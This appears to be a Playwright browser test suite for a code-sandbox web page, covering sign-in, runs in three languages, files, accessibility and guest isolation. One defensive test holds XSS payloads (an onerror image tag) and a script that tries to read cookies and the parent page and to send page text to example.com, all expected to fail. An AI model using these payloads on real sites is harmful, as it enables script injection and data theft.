/** The page for people, in a real browser: what they do with it, and what guests can't. */

import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import type { Locator, Page } from "playwright-core";
import { barriers, BROWSER_MISSING, DESKTOP, NO_BROWSER, PHONE, TestBrowser } from "../support/browser.ts";
import { eventually } from "../support/eventually.ts";
import { serverCommand, UNDER_TEST } from "../support/harness.ts";
import { HttpServer } from "../support/http_harness.ts";

const TOKEN = "alice-token-0123456789";
const SVG_CHART = `import pygal
visits = {"Oslo": [3, 5, 4, 8], "Bergen": [2, 2, 6, 5]}
chart = pygal.Line(title="Visits")
for city, counts in visits.items(): chart.add(city, counts)
display(chart)`;

function test(name: string, fn: (server: HttpServer, browser: TestBrowser) => Promise<void>): void {
  Deno.test({
    name: `[${UNDER_TEST}] ${name}${BROWSER_MISSING}`,
    ignore: NO_BROWSER,
    fn: async () => {
      await using server = await start({ WASMBOX_AUTH_TOKENS: `alice=${TOKEN}` });
      await using browser = await TestBrowser.start();
      await fn(server, browser);
    },
  });
}

async function start(env: Record<string, string>): Promise<HttpServer> {
  const { command, args } = serverCommand();
  return await HttpServer.spawn({ command, args: [...args, "serve", "--http", "--port", "0"] }, env);
}

/** A picture for the documents, where one is wanted: TEST_SCREENSHOTS names the directory. */
async function screenshot(page: Page, name: string): Promise<void> {
  const directory = Deno.env.get("TEST_SCREENSHOTS");
  if (directory) await page.screenshot({ path: `${directory}/page-${name}.png` });
}

async function signIn(page: Page): Promise<void> {
  await page.getByLabel("Access token").fill(TOKEN);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("The server is running").waitFor();
}

async function newSession(page: Page, name: string): Promise<void> {
  await page.getByPlaceholder("Name (optional)").fill(name);
  await page.getByRole("button", { name: "New session" }).click();
  await page.getByRole("heading", { name, exact: true }).waitFor();
}

async function widthOf(page: Page): Promise<number> {
  return Number(await page.evaluate("document.documentElement.scrollWidth"));
}

/** Writes it into the editor, and runs it as the keyboard does. */
async function begin(page: Page, language: string, code: string): Promise<void> {
  await page.getByLabel("Language").selectOption(language);
  await page.getByRole("textbox", { name: "Code" }).click();
  await page.keyboard.press("Control+a");
  await page.keyboard.insertText(code);
  await page.keyboard.press("Control+Enter");
}

/** @returns The latest run, when it has ended so. */
async function run(page: Page, language: string, code: string, status = "completed") {
  const before = await page.locator(".run").count();
  await begin(page, language, code);
  await eventually("the run is shown", async () => await page.locator(".run").count() > before);
  const latest = page.locator(".run").first();
  await latest.and(page.locator(`[data-status="${status}"]`)).waitFor({ timeout: 60_000 });
  return latest;
}

function colorOf(locator: Locator): Promise<string> {
  return locator.evaluate((node) => {
    const { getComputedStyle } = globalThis as unknown as {
      getComputedStyle(node: unknown): { color: string };
    };
    return getComputedStyle(node).color;
  });
}

test(
  "a person signs in, runs three languages, sees a chart, exchanges files and stops a loop",
  async (server, browser) => {
    const page = await browser.open(new URL("/", server.url));
    await page.getByLabel("Access token").fill("wrong-token-0123456789");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByText("The server does not take this token").waitFor();
    await signIn(page);
    await newSession(page, "journey");

    const python = await run(page, "python", "x = 6\nprint('printed')\nx * 7");
    assert.equal(await python.locator(".output").innerText(), "printed\n");
    assert.equal(await python.locator(".result").innerText(), "42");
    const javascript = await run(
      page,
      "javascript",
      "const squares: number[] = [1, 2].map((n) => n * n); squares",
    );
    assert.match(await javascript.locator(".result").innerText(), /\[ ?1, 4 ?\]/);
    const shell = await run(page, "shell", "echo one two | wc -w");
    assert.equal((await shell.locator(".output").innerText()).trim(), "2");

    const upload = {
      name: "visits.csv",
      mimeType: "text/csv",
      buffer: Buffer.from("city,visits\nOslo,12\n"),
    };
    await page.getByLabel("Files to upload").setInputFiles(upload);
    await page.getByRole("button", { name: "visits.csv", exact: true }).click();
    const preview = page.getByRole("dialog");
    await preview.getByText("Oslo,12").waitFor();
    await page.keyboard.press("Escape");
    await preview.waitFor({ state: "hidden" });
    await run(page, "python", "open('copy.csv', 'w').write(open('visits.csv').read().upper())");
    const downloading = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download copy.csv" }).click();
    const path = await (await downloading).path();
    assert.equal(await Deno.readTextFile(path), "CITY,VISITS\nOSLO,12\n");

    const variables = page.getByRole("region", { name: "Variables of Python" });
    await variables.getByRole("row", { name: "x int 6", exact: true }).waitFor();
    await page.getByRole("region", { name: "Variables of JavaScript" }).getByText("[1, 4]").waitFor();

    await begin(
      page,
      "python",
      "import itertools\nprint('begun', flush=True)\nfor _ in itertools.count(): pass",
    );
    await page.locator(".run").first().getByText("begun").nth(1).waitFor(); // it arrives while the program runs
    await page.getByRole("button", { name: "Stop" }).click();
    await page.locator('.run[data-status="cancelled"]').waitFor();
    const kept = await run(page, "python", "x");
    assert.equal(await kept.locator(".result").innerText(), "6");

    const chart = await run(page, "python", SVG_CHART);
    const picture = chart.getByRole("img", { name: "Picture" });
    await picture.waitFor();
    const width = () =>
      picture.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth);
    await eventually("the picture has been read", width, (pixels) => pixels > 300);
    await page.evaluate("scrollTo(0, 0)");
    await page.getByRole("link", { name: "All sessions" }).click();
    await page.getByRole("link", { name: "journey", exact: true }).waitFor();
    // Chromium itself styles what is typed over a selection, which the page's policy refuses.
    assert.deepEqual(browser.complaints.filter((said) => !/401|^Applying inline style/.test(said)), []);
    await screenshot(page, "overview");

    await page.getByRole("button", { name: "Destroy journey" }).click();
    await page.getByRole("button", { name: "Really destroy journey" }).click();
    await page.getByText("There are none.").waitFor();
  },
);

test(
  "the page is usable on a phone and in the dark, by keyboard alone, and axe finds no barrier",
  async (server, browser) => {
    for (const [viewport, colorScheme] of [[DESKTOP, "light"], [PHONE, "dark"]] as const) {
      const page = await browser.open(new URL("/", server.url), { viewport, colorScheme });
      await page.getByLabel("Access token").waitFor();
      assert.deepEqual(await barriers(page), []);
      await page.keyboard.press("Tab");
      await page.keyboard.type(TOKEN);
      await page.keyboard.press("Enter");
      await page.getByText("The server is running").waitFor();
      const name = `by-keyboard-${colorScheme}`;
      await page.getByPlaceholder("Name (optional)").focus();
      await page.keyboard.type(name);
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name, exact: true }).waitFor();
      assert.deepEqual(await barriers(page), []);
      await page.getByRole("link", { name: "All sessions" }).press("Enter");
      await page.getByRole("link", { name, exact: true }).waitFor();
      assert.deepEqual(await barriers(page), []);
      assert.ok(await widthOf(page) <= viewport.width, `${await widthOf(page)} pixels wide`);
      await page.getByRole("link", { name, exact: true }).press("Enter");
      await run(
        page,
        "python",
        "display('<h1>Shown</h1>', mime_type='text/html'); [{'city': 'Oslo', 'visits': 12}]",
      );
      await run(page, "python", 'open("notes.txt", "w").write("hello")');
      await run(page, "python", "print(1)\n1 / 0", "failed");
      await run(page, "python", SVG_CHART);
      await page.getByRole("button", { name: "notes.txt", exact: true }).waitFor();
      assert.deepEqual(await barriers(page), []);
      assert.ok(await widthOf(page) <= viewport.width, `${await widthOf(page)} pixels wide`);
      await page.evaluate("scrollTo(0, 0)");
      await screenshot(page, `session-${viewport === PHONE ? "phone" : "desktop"}-${colorScheme}`);
      // Out of the editor, where Tab is a key of its own.
      await page.getByRole("textbox", { name: "Code" }).focus();
      await page.keyboard.press("Escape");
      await page.keyboard.press("Tab");
      assert.notEqual(await page.evaluate("document.activeElement.getAttribute('aria-label')"), "Code");
      await page.context().close();
    }
  },
);

test(
  "what guests show and name stays text, and their HTML has no way to the page, the server or the network",
  async (server, browser) => {
    const page = await browser.open(new URL("/", server.url));
    await signIn(page);
    await newSession(page, "hostile");
    const pwned = () => page.evaluate("globalThis.pwned");
    const mark = "<img src=x onerror=globalThis.pwned=1>";
    await run(
      page,
      "python",
      `print(${JSON.stringify(mark)})\nopen(${
        JSON.stringify(`${mark}.txt`.replace("/", ""))
      }, "w").write("x")\n${JSON.stringify(mark)}`,
    );
    await run(page, "python", `raise ValueError(${JSON.stringify(mark)})`, "failed");
    await page.getByRole("button", { name: `${mark}.txt`, exact: true }).waitFor();
    await page.goto(new URL(`/#/session/${encodeURIComponent(mark)}`, server.url).href);
    await page.getByRole("heading", { name: mark, exact: true }).waitFor();
    assert.equal(await pwned(), undefined);

    await page.goto(new URL("/#/session/hostile", server.url).href);
    // What each tries, and what came of it, is what the frame shows: nothing else of it can be heard.
    const attack = `
    <style>body { color: rgb(1, 2, 3) }</style><p id="said">static</p>
    <img src="https://example.com/x.png"><iframe src="/"></iframe><form action="https://example.com/"><input name=q></form>
    <script>
      const said = [];
      const attempt = (what, work) => { try { work(); said.push(what + " worked"); } catch (error) { said.push(what + ": " + error.name); } };
      attempt("parent", () => parent.document.body.innerHTML);
      attempt("top", () => { top.location = "https://example.com/"; });
      attempt("storage", () => sessionStorage.length);
      attempt("cookie", () => document.cookie);
      attempt("popup", () => { if (!open("https://example.com/")) throw new TypeError(); });
      Promise.allSettled([fetch("/mcp", { method: "POST" }), fetch("https://example.com/"), import("data:text/javascript,1")])
        .then((all) => {
          said.push(...all.map(({ status }) => status));
          document.getElementById("said").textContent = said.join("; ");
        });
      parent.postMessage("ready", "*"); parent.postMessage(1e9, "*"); parent.postMessage({ evil: true }, "*");
    </script>`;
    const shown = await run(page, "python", `display(${JSON.stringify(attack)}, mime_type="text/html")`);
    const frame = shown.frameLocator("iframe").first();
    await frame.getByText("static").waitFor(); // its scripts did not run
    assert.equal(
      await colorOf(frame.locator("#said")),
      "rgb(1, 2, 3)",
    );
    await shown.getByRole("button", { name: "Run its scripts" }).click();
    const said = await eventually(
      "the attack has ended",
      () => frame.locator("#said").innerText(),
      (text) => text !== "static" && text !== "",
    );
    assert.equal(
      said,
      "parent: SecurityError; top: SecurityError; storage: SecurityError; cookie: SecurityError; popup: TypeError; rejected; rejected; rejected",
    );
    assert.equal(new URL(page.url()).hash, "#/session/hostile");
    const height = (await shown.locator("iframe").boundingBox())!.height;
    assert.ok(height <= 600, `the frame is ${height} pixels tall`);

    const away = `<script>location = "https://example.com/?" + document.body.innerText</script>leaves`;
    const leaving = await run(page, "python", `display(${JSON.stringify(away)}, mime_type="text/html")`);
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await leaving.getByRole("button", { name: "Run its scripts" }).click();
    await eventually(
      "the frame was not let go",
      () => browser.complaints.some((text) => /frame-src/.test(text)),
    );
    assert.deepEqual(
      requests.filter((url) => url.includes("example.com")),
      [],
    );
    assert.equal(await pwned(), undefined);
  },
);

Deno.test({
  name:
    `[${UNDER_TEST}] without tokens nobody is asked for one, figures of the whole server are there, and a server that is gone is told of${BROWSER_MISSING}`,
  ignore: NO_BROWSER,
  fn: async () => {
    await using server = await start({});
    await using browser = await TestBrowser.start();
    const page = await browser.open(new URL("/", server.url));
    await page.getByText("The server is running").waitFor();
    await page.getByText("Memory of the server").waitFor();
    await page.getByText("There are none.").waitFor();
    assert.equal(await page.getByRole("button", { name: "Sign out" }).count(), 0);
    await newSession(page, "open");
    await run(page, "python", "data = bytearray(20_000_000); len(data)");
    await page.getByRole("link", { name: "All sessions" }).click();
    await page.getByRole("row", { name: /^open/ }).getByText(/\d\d MB/).waitFor();
    await page.goto(new URL("/#/session/nobody", server.url).href);
    await page.getByRole("button", { name: "Make it" }).click();
    await page.getByRole("textbox", { name: "Code" }).waitFor();
    await page.goto(server.url.origin);
    await page.getByText("The server is running").waitFor();
    await server.end();
    await page.getByText("The server does not answer").waitFor();
  },
});
